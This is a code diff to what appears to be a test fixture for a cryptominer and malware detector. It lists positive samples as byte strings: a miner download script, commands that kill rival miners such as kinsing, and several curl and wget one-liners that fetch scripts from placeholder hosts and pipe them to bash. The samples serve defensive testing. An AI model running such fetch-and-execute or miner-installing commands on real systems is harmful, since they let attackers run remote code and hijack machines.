@@ -128,8 +128,14 @@ POSITIVE: dict[str, list[bytes]] = {
     "miner_install_script": [
         script("wget https://host.example/x" + "mrig-6.22.tar.gz", "tar xf x.tar.gz", "chmod +x x"),
     ],
-    "kills_rival_miners": [script("pkill -f " + "kinsing", "killall -9 " + "kdevtmpfsi")],
+    "kills_miners": [script("pkill -f " + "kinsing", "killall -9 " + "kdevtmpfsi")],
+    "kills_rival_miners": [script("pkill -f " + "kinsing", "killall -9 " + "kdevtmpfsi", "nohup /opt/a &")],
     "download_from_address_piped_to_shell": [(FETCH + ".sh | " + "bash\n").encode()],
+    "download_piped_to_shell": [
+        script("curl -fsSL https://h.example/a.sh | " + "bash"),
+        script('bash -c "$(' + 'wget -qO- https://h.example/a)"'),
+        script("bash <(" + "curl -s https://h.example/a)"),
+    ],
     "download_twice_piped_to_shell": [
         ("(curl -s http://h.example/a||" + "wget -q -O - http://h.example/a)|sh").encode()
     ],
